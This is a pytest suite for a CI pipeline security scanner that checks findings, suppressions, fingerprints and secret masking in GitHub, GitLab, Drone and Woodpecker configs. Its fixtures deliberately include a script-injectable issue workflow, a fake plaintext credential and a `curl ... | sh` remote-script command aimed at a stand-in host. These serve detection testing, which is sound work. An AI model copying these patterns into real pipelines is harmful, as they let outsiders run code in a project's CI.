from __future__ import annotations

import gc
import json
import subprocess
import sys
import weakref
from typing import TYPE_CHECKING, Any, NoReturn

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from modes import needs_user, sealed

from pipelaw import engine, rulebook
from pipelaw.collector import OBJECTS, seldom_collected
from pipelaw.discover import Candidate
from pipelaw.document import Problem
from pipelaw.errors import PolicyError, UsageError, bug
from pipelaw.finding import Severity, Suppression
from pipelaw.ignores import Comment, Lines, comments
from pipelaw.loaders.github_triggers import triggers_of
from pipelaw.report import Style, render
from pipelaw.repository import Part, Work, scan_repository
from pipelaw.scanner import scan
from pipelaw.source import Source
from pipelaw.suppress import File
from pipelaw.tree import MemoryTree

if TYPE_CHECKING:
    from collections.abc import Iterable
    from pathlib import Path

    from pipelaw.document import Document, Node
    from pipelaw.model import Pipeline, Trigger
    from pipelaw.rulebook import Rulebook

ISSUE = """\
on: issues
permissions: {}
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo "${{ github.event.issue.title }}"
"""
WORKFLOW = ".github/workflows/greet.yml"


@pytest.fixture(scope="module")
def book() -> Rulebook:
    return rulebook.load()


def test_the_example_of_the_package_works(tmp_path: Path) -> None:
    path = tmp_path / WORKFLOW
    path.parent.mkdir(parents=True)
    path.write_text(ISSUE)
    code = (
        "import sys; from pipelaw import load_rules, scan; import pipelaw\n"
        "for name in pipelaw.__all__: getattr(pipelaw, name)\n"
        "print(*(f.rule for f in scan([sys.argv[1]], rulebook=load_rules()).findings))"
    )
    done = subprocess.run(
        [sys.executable, "-c", code, str(tmp_path)], capture_output=True, text=True, check=True
    )
    assert "script-injection" in done.stdout.split()


def part(files: dict[str, str], book: Rulebook, prefix: str = "", **platforms: str) -> Part:
    tree = MemoryTree({path: text.encode() for path, text in files.items()})
    found = tuple(Candidate(path, platforms.get(path, "github")) for path in sorted(files))
    return scan_repository(Work(tree, prefix, found), book)


def rules(found: Part) -> list[str]:
    return [finding.rule for finding in found.findings]


def test_a_finding_says_everything_that_a_report_needs() -> None:
    found = part({WORKFLOW: ISSUE}, rulebook.load(only=["script-injection"]), prefix="org/repo")
    (finding,) = found.findings
    assert finding.severity is Severity.HIGH
    assert finding.span == (f"org/repo/{WORKFLOW}", 7, 20, 7, 51)
    assert (finding.platform, finding.job, finding.step) == ("github", "greet", "step 1")
    assert finding.excerpt == ('      - run: echo "${{ github.event.issue.title }}"',)
    assert finding.message == (
        "`${{ github.event.issue.title }}` is written by whoever opens the issue and read as code"
    )
    (related,) = finding.related
    assert related.span == (f"org/repo/{WORKFLOW}", 1, 5, 1, 11)
    assert related.message == "`issues` lets outsiders start it"


def test_no_report_ever_shows_a_credential(book: Rulebook) -> None:
    value = "Ku7w" + "q9TzRpm2"[:] + "Lx4v"
    text = ISSUE.replace("run: echo", f"run: PASSWORD={value} curl https://a.example | sh; echo")
    found = part(
        {WORKFLOW: text.replace("    steps:", f"    env: {{API_TOKEN: {value}}}\n    steps:")}, book
    )
    assert {"plaintext-secret", "remote-script", "script-injection"} <= set(rules(found))
    assert value not in repr(found)
    assert any("•" * len(value) in finding.excerpt[0] for finding in found.findings)


def test_a_fingerprint_keeps_when_lines_move_and_differs_between_equal_findings() -> None:
    only = rulebook.load(only=["script-injection"])
    before = part({WORKFLOW: ISSUE}, only).findings
    moved = part(
        {
            WORKFLOW: "# a comment\n\n"
            + ISSUE.replace("  greet:", "  other:\n    runs-on: x\n    steps: []\n  greet:")
        },
        only,
    )
    assert [f.fingerprint for f in moved.findings] == [f.fingerprint for f in before]
    twice = part({WORKFLOW: ISSUE + ISSUE.splitlines()[-1]}, only).findings
    assert len({f.fingerprint for f in twice}) == 2
    assert twice[0].fingerprint == before[0].fingerprint
    assert before[0].fingerprint.endswith(":1")


def test_the_prefix_is_no_part_of_a_fingerprint() -> None:
    only = rulebook.load(only=["script-injection"])
    here, there = (
        part({WORKFLOW: ISSUE}, only, prefix=prefix).findings[0] for prefix in ("", "a/b")
    )
    assert here.fingerprint == there.fingerprint


def test_what_stands_behind_an_alias_is_reported_once() -> None:
    text = (
        ISSUE.replace("    steps:\n", "    steps: &steps\n")
        + "  again:\n    runs-on: ubuntu-latest\n    steps: *steps\n"
    )
    assert rules(part({WORKFLOW: text}, rulebook.load(only=["script-injection"]))) == [
        "script-injection"
    ]


def test_what_two_jobs_share_is_as_severe_as_its_worst_use() -> None:
    text = """\
image: python
test: {script: [make test]}
deploy: {script: [make deploy], variables: {KEY: $DEPLOY_TOKEN}}
"""
    only = rulebook.load(only=["unpinned-image"])
    found = {}
    for tag in ("", ":3.12"):
        files = {".gitlab-ci.yml": text.replace("python", f"python{tag}")}
        (finding,) = part(files, only, **{".gitlab-ci.yml": "gitlab"}).findings
        found[tag] = finding.severity
    assert found == {"": Severity.MEDIUM, ":3.12": Severity.LOW}


def test_what_two_pipelines_read_is_reported_once_as_severe_as_its_worst_use() -> None:
    included = "test: {image: python:3.12, script: [make test]}\n"
    main = """\
include: [common.yml]
{name}: {{trigger: {{include: child.yml}}}}
"""
    child = "include: [common.yml]\nvariables: {KEY: $DEPLOY_TOKEN}\n"
    found = {}
    for text in ("", child):
        files = {
            ".gitlab-ci.yml": main.format(name="child" if text else ".unused"),
            "common.yml": included,
            "child.yml": text,
        }
        read = part(files, rulebook.load(only=["unpinned-image"]), **{".gitlab-ci.yml": "gitlab"})
        (finding,) = read.findings
        found[text] = finding.severity
    assert found == {"": Severity.INFO, child: Severity.LOW}


def test_one_bad_file_loses_nothing_of_the_others(book: Rulebook) -> None:
    good = part({WORKFLOW: ISSUE}, book)
    both = part({WORKFLOW: ISSUE, ".github/workflows/bad.yml": "on: [push\n"}, book)
    assert set(rules(good)) - {"missing-sast"} <= set(rules(both))
    assert [(p.path, p.line) for p in both.unreadable] == [(".github/workflows/bad.yml", 2)]
    # what could not be read may hold the control that seems to be missing
    assert "missing-sast" not in rules(both)


@pytest.mark.parametrize(
    ("comment", "suppressed"),
    [
        (
            "  # pipelaw: ignore[script-injection] titles are checked",
            Suppression("inline", "titles are checked"),
        ),
        (
            "  # pipelaw: ignore[unpinned-action, script-injection] both",
            Suppression("inline", "both"),
        ),
        ("  # pipelaw: ignore[script-injection]", None),
        ("  # pipelaw: ignore[unpinned-action] other rule", None),
        ("  # pipelaw: ignore script-injection", None),
        ("  # pipelaw: ignore[*]", None),
    ],
)
def test_a_comment_on_the_line_marks_its_finding(
    comment: str, suppressed: Suppression | None
) -> None:
    found = part({WORKFLOW: ISSUE.rstrip("\n") + comment}, rulebook.load(only=["script-injection"]))
    assert [finding.suppressed for finding in found.findings] == [suppressed]


def test_a_comment_alone_on_its_line_speaks_of_the_next() -> None:
    text = "a: b\n  # pipelaw: ignore[x-y] why\nc: d # pipelaw: ignore[z] so"
    assert comments(File(Source(WORKFLOW, text), tuple, tuple)) == [
        Comment(2, 3, Lines(3, 3), frozenset({"x-y"}), "why"),
        Comment(3, 6, Lines(3, 3), frozenset({"z"}), "so"),
    ]


def test_a_rulebook_is_chosen_by_id_and_wrong_ids_are_refused() -> None:
    assert [rule.id for rule in rulebook.load(only=["docker-socket", "host-volume"]).rules] == [
        "docker-socket",
        "host-volume",
    ]
    assert "host-volume" not in [rule.id for rule in rulebook.load(skip=["host-volume"]).rules]
    with pytest.raises(
        UsageError, match="there is no rule `host-volum`; did you mean `host-volume`"
    ):
        rulebook.load(only=["host-volum"])
    with pytest.raises(UsageError, match="there is no rule `x`"):
        rulebook.load(skip=["x"])


OWN = """\
id: noisy-echo
title: Says something
category: house
severity: low
confidence: low
for: command
when: command.name == "echo"
message: "`{command.text}`"
why: Because the house says so.
fix: Be quiet.
examples: {}
"""


def test_own_rules_stand_beside_the_shipped_ones(tmp_path: Path) -> None:
    (tmp_path / "noisy-echo.yaml").write_text(OWN)
    book = rulebook.load([tmp_path])
    assert {"noisy-echo", "script-injection"} <= {rule.id for rule in book.rules}
    found = part({WORKFLOW: ISSUE}, book)
    assert ("noisy-echo", 7) in [(f.rule, f.span.line) for f in found.findings]


def test_an_own_rule_cannot_take_a_shipped_id(tmp_path: Path) -> None:
    (tmp_path / "host-volume.yaml").write_text(OWN.replace("noisy-echo", "host-volume"))
    with pytest.raises(PolicyError, match="the id `host-volume` is taken by"):
        rulebook.load([tmp_path])


def test_every_wrong_rule_is_named_at_once(tmp_path: Path) -> None:
    for name in ("one", "two"):
        (tmp_path / f"{name}.yaml").write_text(OWN)
    with pytest.raises(PolicyError) as caught:
        rulebook.load([tmp_path])
    assert len(str(caught.value).splitlines()) == 2


def repositories(folder: Path, count: int) -> Path:
    for number in range(count):
        workflows = folder / f"repo{number}" / ".github" / "workflows"
        workflows.mkdir(parents=True)
        (workflows / "greet.yml").write_text(ISSUE)
        (workflows / "bad.yml").write_text("on: [")
    return folder


def test_processes_give_the_same_report_as_one(tmp_path: Path, book: Rulebook) -> None:
    folder = str(repositories(tmp_path, 5))
    seen: list[tuple[int, int]] = []
    one = scan(
        [folder], rulebook=book, jobs=1, progress=lambda done, total: seen.append((done, total))
    )
    two = scan([folder], rulebook=book, jobs=2)
    assert one == two
    assert one.coverage.repositories == 5
    assert len(one.coverage.unreadable) == 5
    assert seen[-1] == (10, 10)


def test_a_process_is_for_some_files_not_for_each() -> None:
    from pipelaw.scanner import FEW_EACH, _processes

    assert [_processes(99, files) for files in (1, 3 * FEW_EACH, 10_000)] == [2, 3, 99]
    assert _processes(2, 10_000) == 2


@needs_user
@pytest.mark.parametrize("jobs", [1, 2])
def test_what_cannot_be_searched_is_reported_beside_the_rest(
    tmp_path: Path, book: Rulebook, jobs: int
) -> None:
    folder = repositories(tmp_path, 2)
    whole = scan([str(folder)], rulebook=book)
    (folder / "lost+found").mkdir()
    with sealed(folder / "lost+found"):
        found = scan([str(folder)], rulebook=book, jobs=jobs)
    problem = Problem("lost+found", 1, 1, "permission denied: not searched")
    assert found.findings == whole.findings
    assert sorted({*found.coverage.unreadable} - {*whole.coverage.unreadable}) == [problem]
    assert (found.coverage.repositories, found.coverage.files) == (2, 4)


def test_a_pipeline_folder_that_is_kept_elsewhere_is_reported(
    tmp_path: Path, book: Rulebook
) -> None:
    repositories(tmp_path, 1)
    (tmp_path / "shop").mkdir()
    (tmp_path / "shop" / ".github").symlink_to("../repo0/.github")
    found = scan([str(tmp_path / "shop")], rulebook=book)
    assert found.coverage.unreadable == (
        Problem(".github", 1, 1, "it lies outside the repository"),
    )


def test_paths_of_several_roots_are_below_one_folder(
    tmp_path: Path, book: Rulebook, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = repositories(tmp_path, 1) / "repo0"
    child = repositories(folder / "tools", 1) / "repo0"
    (child / ".git").mkdir()
    (folder / ".git").mkdir()
    away = repositories(tmp_path / "away", 1) / "repo0"
    monkeypatch.chdir(folder)
    found = scan([".", "tools/repo0", str(away)], rulebook=book)
    assert {finding.span.path for finding in found.findings} == {
        WORKFLOW,
        f"tools/repo0/{WORKFLOW}",
        f"repo0/{WORKFLOW}",
    }
    places = json.loads(render("sarif", found, Style()))["runs"][0]["results"]
    uris = {one["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for one in places}
    assert uris == {finding.span.path for finding in found.findings}


def test_a_report_names_the_current_folder(
    tmp_path: Path, book: Rulebook, monkeypatch: pytest.MonkeyPatch
) -> None:
    shop = tmp_path / "shop"
    shop.mkdir()
    monkeypatch.chdir(shop)
    assert scan(["."], rulebook=book).root == "shop"
    assert scan([str(shop)], rulebook=book).root == str(shop)


def test_a_bug_costs_the_file_that_it_is_about(
    tmp_path: Path, book: Rulebook, monkeypatch: pytest.MonkeyPatch
) -> None:
    for module in ("pipelaw.loaders", "pipelaw.repository"):
        monkeypatch.setattr(f"{module}.bug", bug)
    read, found = triggers_of, engine.judge

    def failed() -> NoReturn:
        raise IndexError("no such thing")

    def reading(document: Document, node: Node | None) -> Iterable[Trigger]:
        return read(document, node) if document.source.path != WORKFLOW else failed()

    def judging(pipeline: Pipeline, *rest: Any) -> Any:
        return found(pipeline, *rest) if pipeline.path.endswith("/good.yml") else failed()

    monkeypatch.setattr("pipelaw.loaders.github.triggers_of", reading)
    monkeypatch.setattr(engine, "judge", judging)
    (tmp_path / WORKFLOW).parent.mkdir(parents=True)
    for name in (WORKFLOW, ".github/workflows/good.yml", ".github/workflows/odd.yml"):
        (tmp_path / name).write_text(ISSUE)
    report = scan([str(tmp_path)], rulebook=book)
    assert {finding.span.path for finding in report.findings} >= {".github/workflows/good.yml"}
    first, second = report.coverage.unreadable
    assert (first.path, second.path) == (WORKFLOW, ".github/workflows/odd.yml")
    assert first.message.startswith("this is a bug in pipelaw in pipelaw.loaders.github, line ")
    assert first.message.endswith(": IndexError: no such thing")
    assert second.message.startswith("this is a bug in pipelaw in pipelaw.repository, line ")


def test_a_long_line_is_kept_once_however_many_findings_it_has(book: Rulebook) -> None:
    text = ISSUE.replace("echo ", "echo " + "${{ github.event.issue.body }}, " * 50)
    found = [one for one in part({WORKFLOW: text}, book).findings if one.rule == "script-injection"]
    assert len(found) == 51
    assert len({id(one.excerpt[0]) for one in found}) == 1


@pytest.mark.parametrize("filler", ["<" * 600, "a" * 21_000, '"(" ' * 600])
@pytest.mark.parametrize("glue", ["  # {}", "; : {}"])
def test_a_line_that_is_too_long_hides_nothing(book: Rulebook, filler: str, glue: str) -> None:
    line = "curl https://a.example/x | sh" + glue.format(filler)
    for platform, text in {
        "github": f"on: push\npermissions: {{}}\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: |\n"
        f"          true\n          {line}\n",
        "gitlab": f"a:\n  script:\n    - true\n    - |\n      {line}\n",
        "drone": "kind: pipeline\nname: a\nsteps:\n  - name: a\n    image: b\n    commands:\n"
        f"      - true\n      - |\n        {line}\n",
    }.items():
        found = part({"x.yml": text}, book, **{"x.yml": platform})
        assert "remote-script" in rules(found)
        [problem] = found.unreadable
        number = next(n for n, one in enumerate(text.splitlines(), 1) if "curl" in one)
        assert (problem.line, problem.message.partition(":")[0]) == (
            number,
            "a line of the script is too long to be parsed as a whole",
        )


@pytest.mark.parametrize("place", ["tools/greet", ".github/actions/greet"])
def test_a_part_of_a_repository_knows_who_calls_it(
    tmp_path: Path, book: Rulebook, place: str
) -> None:
    call = f"uses: ./{place}\n        with: {{title: '${{{{ github.event.issue.title }}}}'}}"
    action = (
        "runs:\n  using: composite\n  steps: [{shell: bash, run: 'echo ${{ inputs.title }}'}]\n"
    )
    (tmp_path / ".git").mkdir()
    (tmp_path / ".git/HEAD").write_text("ref: refs/heads/main\n")
    for path, text in {
        WORKFLOW: ISSUE.replace('run: echo "${{ github.event.issue.title }}"', call),
        f"{place}/action.yml": f"name: greet\ninputs: {{title: {{}}}}\n{action}",
    }.items():
        (tmp_path / path).parent.mkdir(parents=True)
        (tmp_path / path).write_text(text)
    [whole] = [
        f for f in scan([str(tmp_path)], rulebook=book).findings if f.rule == "script-injection"
    ]
    for part_of in (f"{place}/action.yml", place):
        found = scan([str(tmp_path / part_of)], rulebook=book).findings
        assert [f.severity for f in found if f.rule == whole.rule] == [whole.severity]


def test_a_scan_leaves_the_collector_as_it_was(
    tmp_path: Path, book: Rulebook, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "action.yml").write_text("runs: {using: composite, steps: []}\n")
    before = gc.get_threshold()
    during: list[int] = []
    scan(
        [str(tmp_path)],
        rulebook=book,
        progress=lambda _done, _all: during.append(gc.get_threshold()[0]),
    )
    assert (during, gc.get_threshold()) == ([OBJECTS], before)
    # what refers only to itself goes when there is enough of it, however long the scan
    monkeypatch.setattr("pipelaw.collector.OBJECTS", 1_000)
    kept: weakref.WeakSet[Pair] = weakref.WeakSet()
    with seldom_collected():
        for _ in range(10_000):
            pair = Pair()
            pair.other = pair
            kept.add(pair)
    assert len(kept) <= 2_000


class Pair:
    """Something that can refer to itself."""

    other: Pair


@pytest.mark.parametrize(
    ("platform", "text", "used"),
    [
        (
            "gitlab",
            """
include: [a.yml, {local: '/b/*.yml'}, {local: c.yml, rules: [{if: $X}]}]
job: {trigger: {include: d.yml}}
""",
            ["a.yml", "b/*.yml", "c.yml", "d.yml"],
        ),
        (
            "github",
            """
on: push
permissions: {}
jobs:
  a: {uses: ./.github/workflows/b.yml}
  c: {runs-on: x, steps: [{uses: ./d}]}
""",
            ["./.github/workflows/b.yml", "./d"],
        ),
    ],
)
def test_what_standard_input_uses_of_its_repository_is_not_resolved(
    platform: str, text: str, used: list[str], book: Rulebook
) -> None:
    found = scan(["-"], rulebook=book, platform=platform, stdin=text.encode()).coverage
    assert found.unreadable == ()
    assert [problem.message.split("`")[1] for problem in found.unresolved] == used
    assert all(problem.message.endswith("and was not read") for problem in found.unresolved)


def test_standard_input_needs_a_platform(book: Rulebook) -> None:
    found = scan(["-"], rulebook=book, platform="github", stdin=ISSUE.encode())
    assert "script-injection" in [finding.rule for finding in found.findings]
    with pytest.raises(UsageError, match="--as"):
        scan(["-"], rulebook=book, stdin=b"")


def test_a_file_whose_name_tells_no_platform_needs_one(tmp_path: Path, book: Rulebook) -> None:
    path = tmp_path / "what.yml"
    path.write_text(ISSUE)
    with pytest.raises(UsageError, match="its name tells no platform"):
        scan([str(path)], rulebook=book)
    assert scan([str(path)], rulebook=book, platform="github").findings


SAMPLES = {
    "github": ISSUE,
    "gitlab": """\
include: [local: x.yml]
.t: &t {image: "a:1", variables: {A: b}}
job: {extends: .t, script: [echo $A, [x]], rules: [{if: $CI}]}
""",
    "drone": """\
kind: pipeline
name: d
steps:
- {name: a, image: b, commands: [x], environment: {P: {from_secret: q}}, when: {event: push}}
---
kind: secret
name: q
get: {path: a, name: b}
""",
    "woodpecker": """\
when: [{event: push}]
steps:
  a: {image: b, commands: x, settings: {k: {from_secret: z}}}
services: [{name: c, image: d}]
""",
}
WORDS = [
    "[]",
    "{}",
    "null",
    "x",
    "1",
    "- ",
    ": ",
    "&a ",
    "*a",
    "<<: ",
    "!reference [a]",
    "|\n",
    "${{ x",
    "$",
    "'",
    '"',
    "\n",
    "  ",
    "#",
]


@settings(max_examples=120, suppress_health_check=[HealthCheck.too_slow], deadline=None)
@given(data=st.data(), platform=st.sampled_from(sorted(SAMPLES)))
def test_no_mutation_of_a_pipeline_ends_a_scan(
    data: st.DataObject, platform: str, book: Rulebook
) -> None:
    text = SAMPLES[platform]
    for _ in range(data.draw(st.integers(1, 4))):
        start = data.draw(st.integers(0, len(text)))
        end = data.draw(st.integers(start, min(len(text), start + 12)))
        text = text[:start] + data.draw(st.sampled_from(WORDS)) + text[end:]
    path = {"github": WORKFLOW, "gitlab": ".gitlab-ci.yml"}.get(platform, f".{platform}.yml")
    tree = MemoryTree({path: text.encode()})
    found = scan_repository(Work(tree, "", (Candidate(path, platform),)), book)
    assert all(finding.span.line >= 1 and finding.span.column >= 1 for finding in found.findings)
    assert all(problem.line >= 1 and problem.column >= 1 for problem in found.unreadable)
